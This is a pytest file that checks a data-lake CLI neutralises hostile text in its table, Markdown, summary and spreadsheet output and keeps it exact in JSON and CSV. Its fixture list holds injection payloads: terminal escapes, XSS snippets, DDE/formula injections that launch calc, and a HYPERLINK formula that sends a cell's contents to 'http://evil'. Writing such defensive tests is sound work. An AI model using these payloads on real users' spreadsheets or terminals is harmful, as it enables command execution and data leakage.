"""A lake full of hostile texts: inert for people and spreadsheets, exact for machines."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_ingest import JOB, event, lines
from test_markdown import acting

from pipeline import open_lake
from pipeline.cli import run
from pipeline.cli.output import write_rows
from pipeline.cli.spreadsheet import defused
from pipeline.errors import ExitCode

EVIL = [
    "\x1b[2J\x1b]0;owned\x07 escape \x9b31m \u202egnp.exe",
    "<script>alert(1)</script> <img src=x onerror=alert(2)> &lt;b&gt;",
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|"/c calc"!A0',
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r\n=HYPERLINK(\"http://evil/?\"&A1,\"ok\")",
    " \u00a0=1+1",
    "\uff1d1+1",
    "harmless;=1+1;",
    "line one\nline two | a cell\n\n# a heading",
    "[a](javascript:alert(1)) ![b](http://evil/x.png) `c`",
    'quote " and "" and \' and \\',
    "@octocat see #1 GH-2 https://evil.example www.evil.com",
]  # fmt: skip
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A lake whose events, keys, levels, rejects and source name are hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        event(n, message=evil, level="error", data={f"{evil}": n, "step": -n})
        for n, evil in enumerate(EVIL, 1)
    ]
    rows.append(event(99, level="=1+1", type="@evil", note="\x1b[31m<b>"))
    broken = b'{"=cmd|evil \x1b[31m <b>": \n'
    path = folder / "=cmd|' evil'\n\x1b[31m<b>.jsonl"
    path.write_bytes(lines(*rows).encode() + broken)
    with open_lake(folder / "lake") as made:
        assert made.ingest([path], job_id=JOB).reject_count
    return folder / "lake"


ROWS = [
    *(["show", view] for view in ("events", "errors", "sources")),
    ["rejects"],
    ["sql", "select message as \"=1+1\", level as \"\x1b[31m<b>\", - step as n from events"],
    ["export", "events"],
]  # fmt: skip


def printed(lake: Path, args: list[str], tmp_path: Path, *more: str) -> str:
    """What a command writes into a file."""
    out = tmp_path / "out"
    assert run([*args, "--lake", str(lake), "-o", str(out), *more]) == ExitCode.OK
    return out.read_bytes().decode()


@pytest.mark.parametrize("args", [a for a in ROWS if a[0] != "export"], ids=" ".join)
def test_people_see_inert_text(args: list[str], lake: Path, tmp_path: Path) -> None:
    """Tables and Markdown hold no control character, no line too many and no markup."""
    count = len(json.loads(printed(lake, args, tmp_path, "--format", "json")))
    for format in ("table", "markdown"):
        text = printed(lake, args, tmp_path, "--format", format)
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
        assert len(text.splitlines()) == count + 2
    assert not acting(text)
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in text.splitlines()} == {
        text.splitlines()[1].count("|")
    }


@pytest.mark.parametrize("args", [["summary"], ["summary", "--format", "markdown"]], ids=" ".join)
def test_the_summary_is_inert(args: list[str], lake: Path, tmp_path: Path) -> None:
    """The summary holds no control character, and in Markdown no markup."""
    text = printed(lake, args, tmp_path)
    assert "escape" in text or "harmless" in text
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    assert "markdown" not in args or not acting(text)


def test_machines_see_every_text_as_it_is(lake: Path, tmp_path: Path) -> None:
    """JSON, JSON lines, CSV and the export hold every message exactly."""
    show = ["sql", "select message from events where step < 0 order by step desc"]
    as_json = json.loads(printed(lake, show, tmp_path, "--format", "json"))
    as_lines = printed(lake, show, tmp_path, "--format", "jsonl").splitlines()
    out = tmp_path / "out"
    printed(lake, show, tmp_path, "--format", "csv")
    with out.open(newline="", encoding="utf-8") as file:
        (_, *as_csv) = csv.reader(file)
    for found in (
        [row["message"] for row in as_json],
        [json.loads(line)["message"] for line in as_lines],
        [row[0] for row in as_csv],
    ):
        assert found == EVIL
    exported = [json.loads(line) for line in printed(lake, ["export"], tmp_path).splitlines()]
    assert {e["message"] for e in exported if "message" in e} >= set(EVIL)


@pytest.mark.parametrize("args", ROWS, ids=" ".join)
def test_spreadsheets_find_no_formula(args: list[str], lake: Path, tmp_path: Path) -> None:
    """With --spreadsheet no cell, header or piece of a cell is a formula; numbers are untouched."""
    exact = io.StringIO(printed(lake, args, tmp_path, "--format", "csv"), newline="")
    safe = io.StringIO(printed(lake, args, tmp_path, "--spreadsheet"), newline="")
    pairs = list(zip(csv.reader(exact), csv.reader(safe), strict=True))
    assert len(pairs) > 1
    for was, now in pairs:
        for before, after in zip(was, now, strict=True):
            assert after == before or after.replace("'", "") == before.replace("'", "")
            if re.fullmatch(r"-?\d+(\.\d+)?", before):
                assert after == before
            else:
                assert not dangerous(after), after


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet, of any country, could see a formula in a cell."""
    return any(
        piece.strip('"\x00 \u00a0\ufeff')[:1] in tuple(STARTS)
        for piece in re.split("[;\t\r\n]", cell)
    ) or cell[:1] in ("\t", "\r", "\n")


@given(st.text(st.sampled_from([*STARTS, *"; aA1.\"'|,\u00a0\ufeff"])))
def test_no_text_is_a_formula(text: str) -> None:
    """Whatever a text is made of, no formula is left in it, and nothing but apostrophes is new."""
    safe = defused(text)
    assert not dangerous(safe) or re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", text)
    assert safe.replace("'", "") == text.replace("'", "")


def test_long_texts_are_no_burden() -> None:
    """A text of a million line breaks, separators and spaces is defused in linear time."""
    for text in ("\n" * 10**6, ";" * 10**6, " " * 10**6 + ";", "\n " * 10**6):
        begin = time.process_time()
        defused(text)
        assert time.process_time() - begin < 5


def test_numbers_and_empty_cells_are_untouched(tmp_path: Path) -> None:
    """Negative numbers, times, NULL and the empty text are what they are in CSV."""
    table = pa.table(
        {
            "n": [-1, None],
            "x": [-0.5, float("-inf")],
            "t": ["-0.5", ""],
            "s": pa.array([None, "-x"], pa.string()),
            "b": [b"=1", b"\xff"],
            "d": pa.array(["=1", "a"]).dictionary_encode(),
        }
    )
    path = tmp_path / "out"
    write_rows(table.to_reader(), "spreadsheet", str(path))
    assert path.read_text().splitlines() == [
        '"n","x","t","s","b","d"',
        '-1,-0.5,"-0.5",,"\'=1","\'=1"',
        ',-Infinity,"","\'-x","\\xff","a"',
    ]


@pytest.mark.parametrize(
    ("more", "code"),
    [
        (["--format", "csv"], ExitCode.OK),
        (["--format", "json"], ExitCode.USAGE),
        (["-o", "x.parquet"], ExitCode.USAGE),
    ],
)
def test_only_csv_is_for_spreadsheets(
    more: list[str], code: ExitCode, capsys: pytest.CaptureFixture[str]
) -> None:
    """--spreadsheet is csv by itself, and refused with every other format."""
    assert run(["views", "jobs", "--spreadsheet", *more]) == code
    shown: Any = capsys.readouterr()
    assert shown.out.startswith('"column"') if code == ExitCode.OK else "makes csv" in shown.err
